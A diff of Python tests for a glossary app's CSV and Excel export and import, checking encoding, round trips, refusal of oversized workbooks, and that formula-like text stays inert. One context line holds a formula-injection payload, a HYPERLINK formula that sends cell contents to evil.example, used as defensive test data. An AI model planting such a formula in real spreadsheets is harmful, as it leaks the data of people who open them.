@@ -147,6 +147,57 @@ def test_the_csv_export_never_starts_a_cell_with_a_formula_and_imports_back_unch
     assert editing.find_entry(db, other.id, "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")") is not None
 
 
+def test_the_csv_export_starts_with_a_byte_order_mark_so_excel_reads_utf8(db, glossary):
+    exported = exports.export(db, glossary.partnership_id, "csv")
+    assert exported.content.startswith("\ufeffterm,definition,")
+    assert "Één loket" in exported.content
+
+
+def test_the_excel_export_opens_as_a_workbook_and_imports_back(db, glossary):
+    import base64
+    import io
+
+    from openpyxl import load_workbook
+
+    exported = exports.export(db, glossary.partnership_id, "xlsx")
+    assert exported.filename.endswith(".xlsx") and isinstance(exported.content, bytes)
+    sheet = load_workbook(io.BytesIO(exported.content)).active
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0] == exports.CSV_COLUMNS
+    assert sorted(r[0] for r in rows[1:]) == ["kwaliteit", "regie", "Één loket"]
+    assert "inzet\naandacht, prioriteit" in next(r for r in rows if r[0] == "kwaliteit")
+    other = partnerships.create_partnership(db, glossary.facilitator_id, "Regio West", ["A"])
+    preview = exports.preview_import(db, glossary.facilitator_id, other.id, exported.content, "xlsx")
+    assert preview.ok and preview.count("create") == 3 and [r.row for r in preview.rows] == [2, 3, 4]
+    # The API and the import page's second step carry the workbook as base64 text.
+    exports.apply_import(db, glossary.facilitator_id, other.id, base64.b64encode(exported.content).decode(), "xlsx")
+    assert records(db, other.id) == records(db, glossary.partnership_id)
+
+
+def test_the_excel_export_keeps_formula_like_text_as_text(db, world):
+    import io
+
+    from openpyxl import load_workbook
+
+    for data in FORMULAS:
+        editing.create_entry(db, world.facilitator_id, world.partnership_id, data)
+    exported = exports.export(db, world.partnership_id, "xlsx").content
+    cells = [c for row in load_workbook(io.BytesIO(exported)).active.iter_rows() for c in row]
+    assert {c.data_type for c in cells if c.value} == {"s"}
+    other = partnerships.create_partnership(db, world.facilitator_id, "Regio West", ["A"])
+    exports.apply_import(db, world.facilitator_id, other.id, exported, "xlsx")
+    assert records(db, other.id) == records(db, world.partnership_id)
+
+
+def test_a_broken_or_oversized_workbook_is_refused_as_a_whole(db, glossary, monkeypatch):
+    preview = exports.preview_import(db, glossary.facilitator_id, glossary.partnership_id, b"not a zip", "xlsx")
+    assert preview.file_error is not None and "Excel" in str(preview.file_error)
+    exported = exports.export(db, glossary.partnership_id, "xlsx").content
+    monkeypatch.setattr(exports, "MAX_XLSX_UNPACKED_BYTES", 1000)
+    preview = exports.preview_import(db, glossary.facilitator_id, glossary.partnership_id, exported, "xlsx")
+    assert preview.file_error is not None and "te groot" in str(preview.file_error)
+
+
 def test_apostrophes_and_unicode_line_separators_survive_a_csv_round_trip(db, world):
     tricky = [
         {"term": "'-x", "definition": "''=y", "scope": "'gewoon", "notes": "'+1"},
